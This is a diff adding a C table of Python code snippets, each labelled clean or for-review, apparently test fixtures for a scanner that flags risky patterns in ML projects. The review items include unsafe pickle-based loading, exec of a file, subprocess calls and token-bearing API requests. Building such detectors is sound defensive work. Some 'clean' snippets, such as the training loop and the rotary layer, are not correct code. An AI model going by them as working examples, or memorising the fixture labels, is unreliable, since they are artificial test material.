+	  "        if r is not None and (not isinstance(r, dict) or len(r) != 2):\n"
+	  "            raise ValueError(f\"`rope_scaling` must have two fields, got {r}\")\n" },
+	{ "tokenization", GH_CLEAN,
+	  "import json, os\n"
+	  "from shutil import copyfile\n"
+	  "from typing import Any, Dict, List, Optional, Tuple\n"
+	  "import sentencepiece as spm\n"
+	  "from transformers.tokenization_utils import AddedToken, PreTrainedTokenizer\n"
+	  "\n"
+	  "\n"
+	  "class FooTokenizer(PreTrainedTokenizer):\n"
+	  "    def __init__(self, vocab_file, **kwargs):\n"
+	  "        self.sp_model = spm.SentencePieceProcessor()\n"
+	  "        self.sp_model.Load(vocab_file)\n"
+	  "        super().__init__(**kwargs)\n"
+	  "\n"
+	  "    def __getstate__(self):\n"
+	  "        state = self.__dict__.copy()\n"
+	  "        state[\"sp_model\"] = None\n"
+	  "        return state\n"
+	  "\n"
+	  "    def save_vocabulary(self, save_directory, filename_prefix: Optional[str] = None) -> Tuple[st"
+	  "r]:\n"
+	  "        out = os.path.join(save_directory, (filename_prefix + \"-\" if filename_prefix else "
+	  "\"\") + \"tokenizer.model\")\n"
+	  "        if os.path.abspath(self.vocab_file) != os.path.abspath(out) and os.path.isfile(self.voca"
+	  "b_file):\n"
+	  "            copyfile(self.vocab_file, out)\n"
+	  "        elif not os.path.isfile(self.vocab_file):\n"
+	  "            with open(out, \"wb\") as fi:\n"
+	  "                fi.write(self.sp_model.serialized_model_proto())\n"
+	  "        return (out,)\n" },
+	{ "attention imports", GH_CLEAN,
+	  "import math, warnings, importlib\n"
+	  "import torch\n"
+	  "from torch import nn\n"
+	  "try:\n"
+	  "    from flash_attn import flash_attn_func, flash_attn_varlen_func\n"
+	  "    from flash_attn.bert_padding import index_first_axis  # noqa\n"
+	  "except ImportError:\n"
+	  "    flash_attn_func = None\n"
+	  "from transformers.utils import is_flash_attn_2_available\n"
+	  "from .configuration_foo import FooConfig\n"
+	  "_CHECK = importlib.util.find_spec(\"einops\") is not None\n"
+	  "ACT = {\"gelu\": nn.GELU, \"silu\": nn.SiLU}\n"
+	  "\n"
+	  "\n"
+	  "def act(name):\n"
+	  "    return getattr(nn, name)() if name not in ACT else ACT[name]()\n"
+	  "\n"
+	  "\n"
+	  "class Rotary(nn.Module):\n"
+	  "    def __init__(self, dim, base=10000):\n"
+	  "        super().__init__()\n"
+	  "        inv = 1.0 / (base ** (torch.arange(0, dim, 2).float() / dim))\n"
+	  "        self.register_buffer(\"inv_freq\", inv)\n"
+	  "\n"
+	  "    @torch.jit.export\n"
+	  "    def forward(self, x, pos):\n"
+	  "        dtype = getattr(torch, \"float32\")\n"
+	  "        return x.to(dtype) * pos.exp()\n" },
+	{ "handler", GH_CLEAN,
+	  "from typing import Any, Dict, List\n"
+	  "import base64\n"
+	  "from io import BytesIO\n"
+	  "import torch\n"
+	  "from PIL import Image\n"
+	  "from transformers import pipeline\n"
+	  "\n"
+	  "\n"
+	  "class EndpointHandler:\n"
+	  "    def __init__(self, path=\"\"):\n"
+	  "        self.pipe = pipeline(\"image-classification\", model=path)\n"
+	  "\n"
+	  "    def __call__(self, data: Dict[str, Any]) -> List[Dict[str, Any]]:\n"
+	  "        image = Image.open(BytesIO(base64.b64decode(data.pop(\"inputs\", data))))\n"
+	  "        return self.pipe(image)\n" },
+	{ "train", GH_CLEAN,
+	  "import argparse, json, logging, os, random, sys, time\n"
+	  "from pathlib import Path\n"
+	  "import numpy as np\n"
+	  "import torch\n"
+	  "from datasets import load_dataset\n"
+	  "from torch.utils.data import DataLoader\n"
+	  "from tqdm.auto import tqdm\n"
+	  "from transformers import AutoModelForCausalLM, AutoTokenizer, Trainer, TrainingArguments\n"
+	  "\n"
+	  "logging.basicConfig(level=logging.INFO, handlers=[logging.StreamHandler(sys.stdout)])\n"
+	  "os.environ[\"TOKENIZERS_PARALLELISM\"] = \"false\"\n"
+	  "DEVICE = os.environ.get(\"DEVICE\", \"cuda\")\n"
+	  "\n"
+	  "\n"
+	  "def main():\n"
+	  "    p = argparse.ArgumentParser()\n"
+	  "    p.add_argument(\"--out\", default=\"out\")\n"
+	  "    args = p.parse_args()\n"
+	  "    os.makedirs(args.out, exist_ok=True)\n"
+	  "    model = AutoModelForCausalLM.from_pretrained(\"gpt2\").to(DEVICE).eval()\n"
+	  "    model = torch.compile(model)\n"
+	  "    for batch in tqdm(DataLoader(load_dataset(\"wikitext\")[\"train\"], batch_size=8)):\n"
+	  "        loss = model(**batch).loss\n"
+	  "        loss.backward()\n"
+	  "    torch.save(model.state_dict(), Path(args.out) / \"model.pt\")\n"
+	  "    with open(os.path.join(args.out, \"log.json\"), \"w\") as f:\n"
+	  "        json.dump({\"loss\": float(loss)}, f)\n"
+	  "\n"
+	  "\n"
+	  "if __name__ == \"__main__\":\n"
+	  "    main()\n" },
+	{ "load checkpoint", GH_REVIEW,
+	  "import torch, joblib\n"
+	  "state = torch.load(\"model.pt\", map_location=\"cpu\")\n"
+	  "clf = joblib.load(\"model.joblib\")\n" },
+	{ "load weights only", GH_CLEAN,
+	  "import numpy as np\n"
+	  "import torch\n"
+	  "state = torch.load(\"model.pt\", map_location=\"cpu\", weights_only=True)\n"
+	  "x = np.load(\"x.npy\")\n" },
+	{ "ask a service", GH_REVIEW,
+	  "import os\n"
+	  "import requests\n"
+	  "\n"
+	  "API = \"https://api-inference.huggingface.co/models/x/y\"\n"
+	  "headers = {\"Authorization\": f\"Bearer {os.environ['HF_TOKEN']}\"}\n"
+	  "\n"
+	  "\n"
+	  "def query(payload):\n"
+	  "    return requests.post(API, headers=headers, json=payload).json()\n"
+	  "\n"
+	  "\n"
+	  "print(query({\"inputs\": \"hi\"}))\n" },
+	{ "git revision", GH_REVIEW,
+	  "import subprocess\n"
+	  "from setuptools import setup\n"
+	  "rev = subprocess.check_output([\"git\", \"rev-parse\", \"HEAD\"]).decode(\"ascii\").strip()\n"
+	  "setup(name=\"x\", version=\"0.1+\" + rev)\n" },
+	{ "a kernel", GH_REVIEW,
+	  "import os\n"
+	  "from torch.utils.cpp_extension import load\n"
+	  "here = os.path.dirname(os.path.abspath(__file__))\n"
+	  "ext = load(name=\"wkv\", sources=[os.path.join(here, \"wkv.cpp\"), os.path.join(here, \"wkv.cu"
+	  "\")], verbose=True)\n" },
+	{ "estimator", GH_CLEAN,
+	  "import numpy as np\n"
+	  "from sklearn.base import BaseEstimator, TransformerMixin\n"
+	  "from sklearn.utils.validation import check_is_fitted\n"
+	  "\n"
+	  "\n"
+	  "class Log(BaseEstimator, TransformerMixin):\n"
+	  "    def fit(self, X, y=None):\n"
+	  "        self.n_features_in_ = X.shape[1]\n"
+	  "        return self\n"
+	  "\n"
+	  "    def transform(self, X):\n"
+	  "        check_is_fitted(self)\n"
+	  "        return np.log1p(np.asarray(X))\n" },
+	{ "keras layer", GH_CLEAN,
+	  "import tensorflow as tf\n"
+	  "from tensorflow import keras\n"
+	  "from keras import layers\n"
+	  "\n"
+	  "\n"
+	  "@keras.saving.register_keras_serializable(package=\"x\")\n"
+	  "class Scale(layers.Layer):\n"
+	  "    def build(self, input_shape):\n"
+	  "        self.w = self.add_weight(shape=(input_shape[-1],), initializer=\"ones\")\n"
+	  "\n"
+	  "    def call(self, inputs, training=None):\n"
+	  "        return tf.cast(inputs, self.compute_dtype) * self.w\n"
+	  "\n"
+	  "    def get_config(self):\n"
+	  "        return {**super().get_config()}\n" },
+	{ "triton model", GH_CLEAN,
+	  "import json\n"
+	  "import numpy as np\n"
+	  "import triton_python_backend_utils as pb_utils\n"
+	  "\n"
+	  "\n"
+	  "class TritonPythonModel:\n"
+	  "    def initialize(self, args):\n"
+	  "        self.config = json.loads(args[\"model_config\"])\n"
+	  "\n"
+	  "    def execute(self, requests):\n"
+	  "        out = []\n"
+	  "        for request in requests:\n"
+	  "            x = pb_utils.get_input_tensor_by_name(request, \"IN\").as_numpy()\n"
+	  "            out.append(pb_utils.InferenceResponse([pb_utils.Tensor(\"OUT\", x.astype(np.float32)"
+	  ")]))\n"
+	  "        return out\n" },
+	{ "a version file", GH_REVIEW,
+	  "import os, re\n"
+	  "from setuptools import find_packages, setup\n"
+	  "ns = {}\n"
+	  "exec(open(os.path.join(os.path.dirname(__file__), \"x\", \"version.py\")).read(), ns)\n"
+	  "setup(name=\"x\", version=ns[\"__version__\"], packages=find_packages())\n" },
+	{ "mathematics", GH_CLEAN,
+	  "import numpy as np\n"
+	  "\316\261, \316\262 = 0.1, 0.2\n"
+	  "xs = np.array([1.0]) * \316\261\n"
+	  "\316\224x = xs - \316\262\n" },
+};
+/* clang-format on */
+#endif
